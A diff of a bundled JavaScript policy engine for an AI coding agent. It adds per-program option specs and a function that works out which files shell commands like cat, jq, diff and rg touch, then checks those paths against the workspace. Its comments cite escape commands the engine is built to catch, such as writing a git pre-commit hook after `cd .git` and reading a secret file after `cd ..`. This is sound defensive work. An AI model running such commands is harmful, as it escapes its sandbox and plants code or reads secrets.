+    more: { shortValues: { n: 'value' }, longValues: { lines: 'value' } },
+    wc: {
+        longValues: { 'files0-from': 'names', total: 'value' },
+    },
+    sort: {
+        shortValues: { k: 'value', o: 'write', S: 'value', t: 'value', T: 'write' },
+        longValues: {
+            key: 'value',
+            output: 'write',
+            'buffer-size': 'value',
+            'field-separator': 'value',
+            'temporary-directory': 'write',
+            'batch-size': 'value',
+            'compress-program': 'value',
+            'files0-from': 'names',
+            parallel: 'value',
+            'random-source': 'read',
+            sort: 'value',
+        },
+        longOptional: ['check'],
+    },
+    uniq: {
+        shortValues: { f: 'value', s: 'value', w: 'value' },
+        longValues: { 'skip-fields': 'value', 'skip-chars': 'value', 'check-chars': 'value' },
+        longOptional: ['all-repeated', 'group'],
+        operands: ['read', 'write', 'value'],
+    },
+    cut: {
+        shortValues: { b: 'value', c: 'value', d: 'value', f: 'value' },
+        longValues: {
+            bytes: 'value',
+            characters: 'value',
+            delimiter: 'value',
+            fields: 'value',
+            'output-delimiter': 'value',
+        },
+    },
+    diff: {
+        shortValues: {
+            C: 'value',
+            U: 'value',
+            D: 'value',
+            F: 'value',
+            I: 'value',
+            L: 'value',
+            S: 'value',
+            W: 'value',
+            x: 'value',
+            X: 'read',
+        },
+        longValues: {
+            ifdef: 'value',
+            'show-function-line': 'value',
+            'ignore-matching-lines': 'value',
+            label: 'value',
+            'starting-file': 'value',
+            width: 'value',
+            exclude: 'value',
+            'exclude-from': 'read',
+            'from-file': 'read',
+            'to-file': 'read',
+            tabsize: 'value',
+            'horizon-lines': 'value',
+            'line-format': 'value',
+            'old-line-format': 'value',
+            'new-line-format': 'value',
+            'unchanged-line-format': 'value',
+            'old-group-format': 'value',
+            'new-group-format': 'value',
+            'changed-group-format': 'value',
+            'unchanged-group-format': 'value',
+            palette: 'value',
+        },
+        longOptional: ['context', 'unified', 'color'],
+        longFlags: ['recursive', 'no-dereference'],
+        longToShort: { recursive: '-r' },
+        unknownWithAll: [
+            {
+                options: ['-r'],
+                unless: ['--no-dereference'],
+                reason: 'it follows symlinks while comparing directories (add --no-dereference, or compare files)',
+            },
+        ],
+    },
+    cmp: {
+        shortValues: { i: 'value', n: 'value' },
+        longValues: { 'ignore-initial': 'value', bytes: 'value' },
+        operands: ['read', 'read', 'value'],
+    },
+    file: {
+        shortValues: { e: 'value', f: 'names', F: 'value', m: 'read', P: 'value' },
+        longValues: {
+            exclude: 'value',
+            'exclude-quiet': 'value',
+            'files-from': 'names',
+            separator: 'value',
+            'magic-file': 'read',
+            parameter: 'value',
+        },
+    },
+    stat: {
+        shortValues: { c: 'value' },
+        longValues: { format: 'value', printf: 'value', cached: 'value' },
+    },
+    nl: {
+        shortValues: {
+            b: 'value',
+            d: 'value',
+            f: 'value',
+            h: 'value',
+            i: 'value',
+            l: 'value',
+            n: 'value',
+            s: 'value',
+            v: 'value',
+            w: 'value',
+        },
+        longValues: {
+            'body-numbering': 'value',
+            'section-delimiter': 'value',
+            'footer-numbering': 'value',
+            'header-numbering': 'value',
+            'line-increment': 'value',
+            'join-blank-lines': 'value',
+            'number-format': 'value',
+            'number-separator': 'value',
+            'starting-line-number': 'value',
+            'number-width': 'value',
+        },
+    },
+    od: {
+        shortValues: { A: 'value', j: 'value', N: 'value', S: 'value', t: 'value' },
+        longValues: {
+            'address-radix': 'value',
+            'skip-bytes': 'value',
+            'read-bytes': 'value',
+            format: 'value',
+            endian: 'value',
+        },
+        longOptional: ['strings', 'width'],
+    },
+    xxd: {
+        shortValues: {
+            c: 'value',
+            g: 'value',
+            l: 'value',
+            o: 'value',
+            s: 'value',
+            n: 'value',
+            R: 'value',
+        },
+        operands: ['read', 'write', 'value'],
+        optionsFirst: true,
+    },
+    hexdump: {
+        shortValues: { e: 'value', f: 'read', n: 'value', s: 'value' },
+    },
+    hd: {
+        shortValues: { e: 'value', f: 'read', n: 'value', s: 'value' },
+    },
+    strings: {
+        shortValues: { n: 'value', t: 'value', e: 'value', T: 'value', s: 'value' },
+        longValues: {
+            bytes: 'value',
+            radix: 'value',
+            encoding: 'value',
+            target: 'value',
+            'output-separator': 'value',
+        },
+    },
+    base64: { shortValues: { w: 'value' }, longValues: { wrap: 'value' } },
+    base32: { shortValues: { w: 'value' }, longValues: { wrap: 'value' } },
+    md5sum: SUMS,
+    sha1sum: SUMS,
+    sha224sum: SUMS,
+    sha256sum: SUMS,
+    sha384sum: SUMS,
+    sha512sum: SUMS,
+    b2sum: SUMS,
+    cksum: SUMS,
+    sum: {},
+    grep: GREP,
+    egrep: GREP,
+    fgrep: GREP,
+    awk: AWK,
+    gawk: AWK,
+    mawk: AWK,
+    nawk: AWK,
+    sed: SED,
+    jq: {
+        shortValues: { L: 'read' },
+        longPairs: { arg: 'value', argjson: 'value', slurpfile: 'read', rawfile: 'read' },
+        longValues: {
+            indent: 'value',
+            'library-path': 'read',
+            'from-file': 'read',
+        },
+        longFlags: ['args', 'jsonargs', 'seq', 'stream', 'tab', 'null-input', 'raw-input', 'slurp'],
+        // `-f` makes the first operand the filter's file (jq 1.6) or names it (1.7): a file either way.
+        scriptOperandUnless: ['-f', '--from-file'],
+        extra: jqFilterProblem,
+    },
+    yq: {
+        subcommands: ['eval', 'e', 'eval-all', 'ea'],
+        shortValues: { o: 'value', p: 'value', I: 'value', s: 'write' },
+        longValues: {
+            'output-format': 'value',
+            'input-format': 'value',
+            indent: 'value',
+            expression: 'value',
+            'from-file': 'read',
+            'front-matter': 'value',
+            'split-exp': 'write',
+            'csv-separator': 'value',
+            'properties-separator': 'value',
+            'xml-attribute-prefix': 'value',
+            'xml-content-name': 'value',
+        },
+        longFlags: ['inplace'],
+        longToShort: { inplace: '-i' },
+        scriptOperandUnless: ['--expression', '--from-file'],
+        writesOperandsWith: ['-i'],
+        extra: yqExpressionProblem,
+    },
+    ls: {
+        shortValues: { I: 'value', w: 'value', T: 'value' },
+        longValues: {
+            ignore: 'value',
+            hide: 'value',
+            width: 'value',
+            tabsize: 'value',
+            'block-size': 'value',
+            format: 'value',
+            sort: 'value',
+            time: 'value',
+            'time-style': 'value',
+            'indicator-style': 'value',
+            'quoting-style': 'value',
+        },
+        longOptional: ['color', 'hyperlink'],
+        longFlags: ['recursive', 'dereference'],
+        longToShort: { recursive: '-R', dereference: '-L' },
+        unknownWithAll: [
+            {
+                options: ['-R', '-L'],
+                reason: 'it follows symlinks while listing directories recursively (leave out -L)',
+            },
+        ],
+    },
+    tree: {
+        shortValues: { L: 'value', P: 'value', I: 'value', o: 'write', H: 'value', T: 'value' },
+        longValues: {
+            charset: 'value',
+            filelimit: 'value',
+            timefmt: 'value',
+            sort: 'value',
+            gitfile: 'read',
+            hintro: 'read',
+            houtro: 'read',
+            infofile: 'read',
+        },
+        longFlags: ['fromfile', 'fromtabfile', 'gitignore'],
+        unknownWith: { '-l': 'it follows symlinks to directories (leave out -l)' },
+    },
+    rg: {
+        shortValues: {
+            e: 'value',
+            f: 'read',
+            g: 'value',
+            t: 'value',
+            T: 'value',
+            m: 'value',
+            A: 'value',
+            B: 'value',
+            C: 'value',
+            M: 'value',
+            E: 'value',
+            r: 'value',
+            j: 'value',
+            d: 'value',
+        },
+        longValues: {
+            regexp: 'value',
+            file: 'read',
+            glob: 'value',
+            iglob: 'value',
+            type: 'value',
+            'type-not': 'value',
+            'type-add': 'value',
+            'max-count': 'value',
+            'after-context': 'value',
+            'before-context': 'value',
+            context: 'value',
+            'max-columns': 'value',
+            encoding: 'value',
+            replace: 'value',
+            threads: 'value',
+            'max-depth': 'value',
+            'ignore-file': 'read',
+            'max-filesize': 'value',
+            'context-separator': 'value',
+            'field-match-separator': 'value',
+            'field-context-separator': 'value',
+            'path-separator': 'value',
+            sort: 'value',
+            sortr: 'value',
+            colors: 'value',
+            color: 'value',
+            engine: 'value',
+        },
+        longFlags: ['follow'],
+        longToShort: { follow: '-L' },
+        unknownWith: {
+            '-L': 'it follows symlinks while searching (leave out -L and --follow)',
+        },
+        scriptOperandUnless: ['-e', '--regexp', '-f', '--file'],
+    },
+};
+/** The programs whose file arguments are known. */
+const FILE_READERS = Object.keys(READERS);
+
+;// CONCATENATED MODULE: ./src/policy/file-operands.ts
+/**
+ * Which files a command reads or writes through its arguments, for the programs a policy is
+ * likely to allow for looking at files: `cat`, `head`, `grep`, `ls`, `jq` and the like. The
+ * engine checks every one against the workspace (see `shell-decision.ts`), so an allowed `cat`
+ * reads what `read_file` may read and nothing more, sandbox or not.
+ *
+ * Each program's options are read the way GNU getopt reads them (options anywhere before `--`,
+ * clusters of short letters, long options by unique prefix). The reading errs towards paths:
+ * a word it cannot place is taken for a file (which only costs a refusal if it lies outside),
+ * and a value attached to a long option it does not know (`--foo=/etc/x`) is checked as a path
+ * too. What it cannot know before the command runs — a path built by `~`, braces or an
+ * expansion, a list of names read from a file, a recursion that follows symlinks — is marked
+ * `unknown`, which the engine refuses.
+ */
+
+
+/**
+ * The files `program` reads or writes through its arguments, or undefined when the program is
+ * not one whose arguments are known.
+ */
+function fileAccesses(program, args) {
+    const spec = READERS[program];
+    if (spec === undefined)
+        return undefined;
+    const { options, operands } = splitArguments(spec, args);
+    const accesses = [];
+    const names = new Set(options.map((option) => option.name));
+    for (const [option, reason] of Object.entries(spec.unknownWith ?? {})) {
+        if (names.has(option))
+            accesses.push(unknown(option, reason));
+    }
+    for (const rule of spec.unknownWithAll ?? []) {
+        const given = rule.options.every((option) => names.has(option));
+        if (given && !(rule.unless ?? []).some((option) => names.has(option))) {
+            accesses.push(unknown(rule.options.join(' '), rule.reason));
+        }
+    }
+    for (const option of options) {
+        if (option.value !== undefined && option.role !== 'value') {
+            accesses.push(toAccess(option.value, option.role, option.attached));
+        }
+    }
+    let files = operands;
+    let script;
+    if (spec.scriptOperandUnless && !spec.scriptOperandUnless.some((name) => names.has(name))) {
+        script = operands[0];
+        files = operands.slice(1);
+    }
+    const extra = spec.extra?.(script, args);
+    if (extra !== undefined)
+        accesses.push(unknown(script?.text ?? program, extra));
+    const inPlace = (spec.writesOperandsWith ?? []).some((name) => names.has(name));
+    const roles = spec.operands ?? ['read'];
+    files.forEach((word, index) => {
+        const role = roles[Math.min(index, roles.length - 1)] ?? 'read';
+        if (role === 'value')
+            return;
+        if (word.literal !== undefined && spec.isNotFile?.(word.literal) === true)
+            return;
+        accesses.push(toAccess(word, inPlace ? 'write' : role));
+    });
+    return accesses;
+}
+function unknown(text, reason) {
+    return { text, purpose: 'read', unknown: reason };
+}
+/**
+ * An access for a word: its literal path, its glob pattern, or why neither can be known. A value
+ * attached to an option (`--file=x`, `-fx`) is passed as `attached`; options are only read from
+ * literal words, so it is literal too.
+ */
+function toAccess(word, role, attached) {
+    const purpose = role === 'write' ? 'write' : 'read';
+    const text = attached ?? word.text;
+    if (role === 'names') {
+        return {
+            text,
+            purpose,
+            unknown: 'it reads the names of the files to open from a file, and those are only known when it runs',
+        };
+    }
+    if (attached !== undefined)
+        return { text, purpose, path: attached };
+    if (word.literal !== undefined)
+        return { text, purpose, path: word.literal };
+    const pattern = globPattern(word);
+    if (pattern !== undefined)
+        return { text, purpose, glob: pattern };
+    return { text, purpose, unknown: dynamicReason(word) };
+}
+function dynamicReason(word) {
+    if (word.dynamism.includes('tilde')) {
+        return '`~` stands for the home directory, which is outside the workspace';
+    }
+    if (word.dynamism.includes('brace')) {
+        return 'brace expansion makes paths that are only known when it runs (write each path out)';
+    }
+    if (word.dynamism.includes('glob')) {
+        return 'a quoted or escaped glob is only known when it runs (write the paths out)';
+    }
+    return 'the path is only known when it runs (write it out literally)';
+}
+/** A glob bash expands against the file system: only unquoted `*`, `?` and `[…]`, nothing else. */
+function globPattern(word) {
+    if (word.dynamism.length !== 1 || word.dynamism[0] !== 'glob')
+        return undefined;
+    if (/['"\\()]/u.test(word.text))
+        return undefined;
+    return word.text;
+}
+function knownLongs(spec) {
+    return [
+        ...Object.keys(spec.longValues ?? {}),
+        ...Object.keys(spec.longPairs ?? {}),
+        ...(spec.longOptional ?? []),
+        ...(spec.longFlags ?? []),
+    ];
+}
+/** The long option `written` (without dashes) stands for: exact, or a unique prefix. */
+function resolveLong(spec, written) {
+    const names = knownLongs(spec);
+    if (names.includes(written))
+        return written;
+    const matches = names.filter((name) => name.startsWith(written));
+    return matches.length === 1 ? matches[0] : undefined;
+}
+/** Options (with their values) and operands, as getopt_long would split them. */
+function splitArguments(spec, args) {
+    const options = [];
+    const operands = [];
+    let i = 0;
+    while (i < args.length && spec.subcommands?.includes(args[i]?.literal ?? '') === true)
+        i++;
+    let optionsDone = false;
+    const take = () => {
+        i++;
+        return args[i];
+    };
+    for (; i < args.length; i++) {
+        const word = args[i];
+        if (word === undefined)
+            continue;
+        const literal = word.literal;
+        if (optionsDone || literal === undefined || !literal.startsWith('-') || literal === '-') {
+            // `-` is standard input; a word that is not literal is an operand (its hazard is reported).
+            if (literal !== '-')
+                operands.push(word);
+            if (spec.optionsFirst)
+                optionsDone = true;
+            continue;
+        }
+        if (literal === '--') {
+            optionsDone = true;
+            continue;
+        }
+        if (literal.startsWith('--')) {
+            options.push(...longOption(spec, word, literal, take));
+            continue;
+        }
+        for (let j = 1; j < literal.length; j++) {
+            const letter = literal[j] ?? '';
+            const role = spec.shortValues?.[letter];
+            if (role === undefined) {
+                options.push({ name: `-${letter}`, role: 'value' });
+                continue;
+            }
+            const stuck = literal.slice(j + 1);
+            const value = stuck === '' ? take() : word;
+            options.push({
+                name: `-${letter}`,
+                role,
+                ...(value ? { value } : {}),
+                ...(stuck === '' ? {} : { attached: stuck }),
+            });
+            break;
+        }
+    }
+    return { options, operands };
+}
+/**
+ * One long option and its value. One we do not know, written with a value (`--foo=/etc/x`), has
+ * that value checked as a path: nothing says it is not one.
+ */
+function longOption(spec, word, literal, take) {
+    const equals = literal.indexOf('=');
+    const written = equals < 0 ? literal.slice(2) : literal.slice(2, equals);
+    const known = resolveLong(spec, written);
+    const name = known === undefined ? `--${written}` : (spec.longToShort?.[known] ?? `--${known}`);
+    const attached = equals < 0 ? undefined : literal.slice(equals + 1);
+    if (known === undefined) {
+        return [
+            attached === undefined
+                ? { name, role: 'value' }
+                : { name, role: 'read', value: word, attached },
+        ];
+    }
+    const pair = spec.longPairs?.[known];
+    if (pair !== undefined) {
+        // A name, then the value: `--rawfile name file`, `--arg=name value`.
+        if (attached === undefined)
+            take();
+        const value = take();
+        return [{ name, role: pair, ...(value ? { value } : {}) }];
+    }
+    const role = spec.longValues?.[known];
+    if (role === undefined) {
+        return [{ name, role: 'value', ...(attached === undefined ? {} : { value: word, attached }) }];
+    }
+    if (attached !== undefined)
+        return [{ name, role, value: word, attached }];
+    const value = take();
+    return [{ name, role, ...(value ? { value } : {}) }];
 }
 
 ;// CONCATENATED MODULE: ./src/policy/shell-interpreters.ts
@@ -9361,6 +10379,7 @@ function evaluateRedirect(node, scope, extraArgs, walk) {
 
 
 
+
 const MAX_SHELL_NESTING = 4;
 /** Deeper syntax is refused rather than risking the call stack. */
 const MAX_SYNTAX_DEPTH = 500;
@@ -9712,6 +10731,9 @@ class ShellWalker {
         const findings = programFindings({ program, args, redirects: draft.redirects });
         draft.hazards.push(...findings.hazards, ...dangerousArgumentHazards(program, args));
         draft.hazards.push(...variableTargetHazards(program, draft.args));
+        const files = fileAccesses(program, args);
+        if (files !== undefined)
+            draft.files = files;
         if (findings.shellString !== undefined)
             this.unwrapShell(draft, findings.shellString, scope);
     }
@@ -9821,7 +10843,7 @@ function analyzeShellCommandSync(command, options) {
     const walker = new ShellWalker({ parser: options.parser, now, deadline: now() + timeoutMs });
     const hazards = walker.walkSource(command);
     const commands = walker.result();
-    flagRedirectsAfterDirectoryChange(commands);
+    flagRelativePathsAfterDirectoryChange(commands);
     return { commands, hazards };
 }
 function lengthHazard(command, options) {
@@ -9835,11 +10857,12 @@ function lengthHazard(command, options) {
 }
 const DIRECTORY_CHANGES = new Set(['cd', 'pushd', 'popd']);
 /**
- * The engine resolves a relative redirection target against the call's directory. After `cd`
- * (anywhere in the command: loops run it before later iterations), a relative target means
- * something else, so `cd .git && echo x > hooks/pre-commit` must not pass as a workspace write.
+ * The engine resolves a relative redirection target, and a relative file a command reads, against
+ * the call's directory. After `cd` (anywhere in the command: loops run it before later
+ * iterations), a relative path means something else, so `cd .git && echo x > hooks/pre-commit`
+ * must not pass as a workspace write, nor `cd .. && cat secret.txt` as a workspace read.
  */
-function flagRedirectsAfterDirectoryChange(commands) {
+function flagRelativePathsAfterDirectoryChange(commands) {
     const change = commands.find((piece) => piece.name !== undefined && DIRECTORY_CHANGES.has(piece.name));
     if (!change)
         return;
@@ -9847,19 +10870,31 @@ function flagRedirectsAfterDirectoryChange(commands) {
         const relative = piece.redirects.find((r) => !r.isDescriptorDuplication &&
             !r.operator.includes('<<') &&
             !r.literalTarget?.startsWith('/'));
-        if (!relative)
+        if (relative) {
+            piece.hazards.push({
+                kind: 'unsupported_construct',
+                detail: `the relative redirection \`${relative.operator} ${relative.target}\` in a command that changes directory (\`${change.text}\`)`,
+            });
+        }
+        if (piece.files === undefined)
             continue;
-        piece.hazards.push({
-            kind: 'unsupported_construct',
-            detail: `the relative redirection \`${relative.operator} ${relative.target}\` in a command that changes directory (\`${change.text}\`)`,
+        piece.files = piece.files.map((access) => {
+            const written = access.path ?? access.glob;
+            if (written === undefined || written.startsWith('/'))
+                return access;
+            return {
+                text: access.text,
+                purpose: access.purpose,
+                unknown: `it is a relative path in a command that changes directory (\`${change.text}\`), so where it leads is only known when it runs (use a path from the workspace root and no cd)`,
+            };
         });
     }
 }
 
-// EXTERNAL MODULE: ./src/tools/builtin-tools.ts + 29 modules
-var builtin_tools = __webpack_require__(5099);
+// EXTERNAL MODULE: ./src/tools/builtin-tools.ts + 28 modules
+var builtin_tools = __webpack_require__(15560);
 // EXTERNAL MODULE: ./src/tools/tool-selection.ts
-var tool_selection = __webpack_require__(7146);
+var tool_selection = __webpack_require__(87146);
 ;// CONCATENATED MODULE: ./src/policy-setup.ts
 
 
@@ -9906,6 +10941,7 @@ function untrustedWorkspaceRule() {
 }
 async function loadCliPolicy(options) {
     const sources = [];
+    const warnings = [];
     const rules = [];
     if (options.yolo) {
         rules.push(yoloRule());
@@ -9926,6 +10962,7 @@ async function loadCliPolicy(options) {
         const loaded = await (0,load_policy/* loadPolicyFiles */.gC)(options.policyFiles.map((path) => ({ path, tier: 'workflow' })));
         rules.push(...loaded.rules);
         sources.push(...loaded.files.map((file) => describeFile(file)));
+        warnings.push(...loaded.warnings);
     }
     if (options.settings !== undefined) {
         const fromSettings = settingsRules(options.settings);
@@ -9943,7 +10980,7 @@ async function loadCliPolicy(options) {
         analyzeShell: (command) => analyzeShellCommand(command),
         toolAliases: builtin_tools/* BUILTIN_TOOL_ALIASES */.EV,
     });
-    return { engine, rules: engine.rules, sources };
+    return { engine, rules: engine.rules, sources, warnings };
 }
 /** Priority of a trusted server's allow: with the presets' own allows, below every policy file. */
 const TRUSTED_SERVER_PRIORITY = 100;
@@ -9996,7 +11033,92 @@ function describeFile(file) {
 
 /***/ }),
 
-/***/ 4996:
+/***/ 5535:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   sX: () => (/* binding */ geminiCommandText),
+/* harmony export */   wW: () => (/* binding */ argumentTexts)
+/* harmony export */ });
+/* unused harmony export stableStringify */
+/* harmony import */ var _tools_parameter_aliases_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(86949);
+/**
+ * The texts `argsPattern`, `commandPrefix` and `commandRegex` are matched against. A policy file
+ * written for the Gemini CLI must mean here what it means there, so besides our own text (the
+ * arguments under their declared names, key-sorted JSON) a call is also written the way the
+ * Gemini CLI writes it:
+ * - under the Gemini CLI's current argument names (`file_path` for `read_file`, `dir_path` for
+ *   listing, search and the shell; see `tools/parameter-aliases.ts`);
+ * - with its field markers: every top-level `"key":value` pair between NUL characters, so a
+ *   pattern written as `\0"file_path":"x"\0` finds it (see the Gemini CLI's stable-stringify.ts).
+ * The Gemini CLI matches `commandPrefix` and `commandRegex` in that text too, right after
+ * `"command":"` (its policy/utils.ts, buildArgsPatterns), which is what `geminiCommandText` is for.
+ */
+
+/**
+ * Arguments as JSON with object keys sorted at every depth and no whitespace, so a pattern sees
+ * the same text whatever order the model sent the keys in. `undefined` members are left out (as
+ * `JSON.stringify` does); a cycle (impossible for parsed JSON) is written as `"[Circular]"`.
+ * With `markTopLevel`, each top-level pair stands between NUL characters, as the Gemini CLI writes
+ * it.
+ */
+function stableStringify(value, options = {}) {
+    const ancestors = new Set();
+    const write = (current, topLevel) => {
+        if (current === undefined || typeof current === 'function')
+            return 'null';
+        if (current === null || typeof current !== 'object')
+            return JSON.stringify(current);
+        if (ancestors.has(current))
+            return '"[Circular]"';
+        ancestors.add(current);
+        try {
+            if (Array.isArray(current))
+                return `[${current.map((item) => write(item, false)).join(',')}]`;
+            const record = current;
+            const members = Object.keys(record)
+                .sort()
+                .filter((key) => record[key] !== undefined && typeof record[key] !== 'function')
+                .map((key) => {
+                const pair = `${JSON.stringify(key)}:${write(record[key], false)}`;
+                return topLevel ? `\0${pair}\0` : pair;
+            });
+            return `{${members.join(',')}}`;
+        }
+        finally {
+            ancestors.delete(current);
+        }
+    };
+    return write(value, options.markTopLevel === true);
+}
+/**
+ * Every text an `argsPattern` is tried on: ours, and the Gemini CLI's (its names, with and
+ * without its markers). A rule's pattern matches when it is found in any of them.
+ */
+function argumentTexts(toolName, args) {
+    const gemini = (0,_tools_parameter_aliases_js__WEBPACK_IMPORTED_MODULE_0__/* .withGeminiNames */ .w)(toolName, args);
+    return [
+        ...new Set([
+            stableStringify(args),
+            stableStringify(gemini),
+            stableStringify(gemini, { markTopLevel: true }),
+        ]),
+    ];
+}
+/**
+ * The text the Gemini CLI matches a shell command's `commandPrefix` and `commandRegex` in: the
+ * whole call's arguments for the whole command, `{command, dir_path}` for each part of it.
+ */
+function geminiCommandText(args, part) {
+    const gemini = (0,_tools_parameter_aliases_js__WEBPACK_IMPORTED_MODULE_0__/* .withGeminiNames */ .w)('run_shell_command', args);
+    const subject = part === undefined ? gemini : { command: part, dir_path: gemini.dir_path ?? undefined };
+    return stableStringify(subject, { markTopLevel: true });
+}
+
+
+/***/ }),
+
+/***/ 74996:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -10070,7 +11192,7 @@ function ruleConditions(rule) {
 
 /***/ }),
 
-/***/ 6403:
+/***/ 86403:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -10079,14 +11201,14 @@ function ruleConditions(rule) {
 /* harmony export */   gC: () => (/* binding */ loadPolicyFiles)
 /* harmony export */ });
 /* unused harmony exports mergePolicies, sortRules */
-/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1455);
+/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
 /* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
-/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6760);
+/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
 /* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(6316);
-/* harmony import */ var _parse_policy_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(8640);
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(46316);
+/* harmony import */ var _parse_policy_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(36474);
 /* harmony import */ var _policy_file_error_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(5226);
-/* harmony import */ var _describe_rule_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(4996);
+/* harmony import */ var _describe_rule_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(74996);
 /**
  * Reading policy files from disk: each file (or each `.toml` file of a directory) is parsed at its
  * tier, every problem of every file is reported in one {@link PolicyFileError}, and the rules come
@@ -10103,24 +11225,27 @@ async function loadPolicyFiles(specs) {
     const files = [];
     const rules = [];
     const problems = [];
+    const warnings = [];
     for (const spec of specs) {
         for (const file of await expand(spec)) {
             const text = await readPolicyText(file.path, file.file);
             const checked = (0,_parse_policy_js__WEBPACK_IMPORTED_MODULE_3__/* .checkPolicy */ .hM)(text, { file: file.file, tier: spec.tier });
             problems.push(...checked.problems);
+            warnings.push(...checked.warnings.map(_policy_file_error_js__WEBPACK_IMPORTED_MODULE_4__/* .formatProblem */ .V));
             rules.push(...checked.rules);
             files.push({ ...file, tier: spec.tier, ruleCount: checked.rules.length });
         }
     }
     if (problems.length > 0)
         throw new _policy_file_error_js__WEBPACK_IMPORTED_MODULE_4__/* .PolicyFileError */ .z(problems);
-    return { rules: sortRules(rules), files };
+    return { rules: sortRules(rules), files, warnings };
 }
 /** Several loaded policies as one (e.g. a preset and the repository's files). */
 function mergePolicies(...policies) {
     return {
         rules: sortRules(policies.flatMap((policy) => policy.rules)),
         files: policies.flatMap((policy) => policy.files),
+        warnings: policies.flatMap((policy) => policy.warnings),
     };
 }
 /** Highest final priority first; `sort` is stable, so equal priorities keep the given order. */
@@ -10163,7 +11288,7 @@ function unreadable(path, label, error) {
 
 /***/ }),
 
-/***/ 8640:
+/***/ 36474:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -10180,9 +11305,9 @@ var dist = __webpack_require__(3292);
 // EXTERNAL MODULE: ./src/policy/policy-file-error.ts
 var policy_file_error = __webpack_require__(5226);
 // EXTERNAL MODULE: ./src/policy/policy-types.ts
-var policy_types = __webpack_require__(5578);
+var policy_types = __webpack_require__(45578);
 // EXTERNAL MODULE: ./src/tools/registry.ts
-var registry = __webpack_require__(4988);
+var registry = __webpack_require__(64988);
 ;// CONCATENATED MODULE: ./src/policy/rule-fields.ts
 /**
  * Reading the fields of one policy table: each reader checks the type and range of one key and,
@@ -10260,6 +11385,17 @@ function didYouMean(input, candidates) {
     const closest = closestName(input, candidates);
     return closest === undefined ? '' : `; did you mean "${closest}"?`;
 }
+/**
+ * A field `input` is the end of (`prefix` for `commandPrefix`, `pattern` for `argsPattern`): a
+ * condition written short. Only for five letters or more, so `name` stays a name of its own.
+ */
+function shortenedName(input, candidates) {
+    const folded = input.toLowerCase().replace(/[_-]/g, '');
+    if (folded.length < 5)
+        return undefined;
+    const matches = candidates.filter((candidate) => candidate.toLowerCase().replace(/[_-]/g, '').endsWith(folded));
+    return matches.length === 1 ? matches[0] : undefined;
+}
 /** Reports every key the table does not accept, with the likeliest intended name. */
 function checkKeys(context, check) {
     const aliases = check.aliases ?? {};
@@ -10267,7 +11403,13 @@ function checkKeys(context, check) {
         if (check.known.includes(key) || key in aliases)
             continue;
         const explained = check.explain?.(key);
-        const suggestion = didYouMean(key, [...check.known, ...Object.keys(aliases)]);
+        const candidates = [...check.known, ...Object.keys(aliases)];
+        const shortened = shortenedName(key, candidates);
+        const suggestion = shortened === undefined ? didYouMean(key, candidates) : `; did you mean "${shortened}"?`;
+        if (explained === undefined && suggestion === '' && check.ignoreUnknown) {
+            check.ignoreUnknown([...context.path, key], key);
+            continue;
+        }
         context.report([...context.path, key], explained ??
             (suggestion === ''
                 ? `unknown field "${key}" in ${check.where}; expected one of: ${check.known.join(', ')}`
@@ -10396,7 +11538,7 @@ function writtenName(context, key, alias) {
 }
 
 // EXTERNAL MODULE: ./node_modules/safe-regex2/index.js
-var safe_regex2 = __webpack_require__(8700);
+var safe_regex2 = __webpack_require__(38700);
 var safe_regex2_default = /*#__PURE__*/__webpack_require__.n(safe_regex2);
 ;// CONCATENATED MODULE: ./src/policy/regex-safety.ts
 /**
@@ -10568,7 +11710,78 @@ function stripPatternEcho(message) {
     return message.replace(/^Invalid regular expression: \/[\s\S]*\/[a-z]*: /, '');
 }
 
+;// CONCATENATED MODULE: ./src/policy/safety-checkers.ts
+/**
+ * The Gemini CLI's safety checkers: `[[safety_checker]]` tables (and a rule's own
+ * `safety_checker` table), each naming a checker program the Gemini CLI runs on matching calls.
+ * This agent runs none. A file that has them still loads, as it does in the Gemini CLI; a
+ * malformed one is an error, as there; a well-formed one is reported as not enforced, with what
+ * covers its purpose here, so nobody believes a check runs that does not.
+ */
+
+const SAFETY_CHECKER_KEY = 'safety_checker';
+const CHECKER_TYPES = ['in-process', 'external'];
+/** The Gemini CLI's in-process checkers (its policy/types.ts, InProcessCheckerType). */
+const IN_PROCESS_CHECKERS = ['allowed-path', 'conseca'];
+/** Top-level `[[safety_checker]]` tables. */
+function readSafetyCheckerTables(value, report, warn) {
+    if (!Array.isArray(value)) {
+        report([SAFETY_CHECKER_KEY], `safety checkers must be written as [[safety_checker]] tables, but safety_checker is ${describeValue(value)}`);
+        return;
+    }
+    value.forEach((entry, index) => {
+        const path = [SAFETY_CHECKER_KEY, index];
+        if (!isTable(entry)) {
+            report(path, `each [[safety_checker]] must be a table, but entry ${index + 1} is ${describeValue(entry)}`);
+            return;
+        }
+        if (!('toolName' in entry)) {
+            report(path, 'this [[safety_checker]] has no toolName; add the tools it checks ("*" for every tool)');
+            return;
+        }
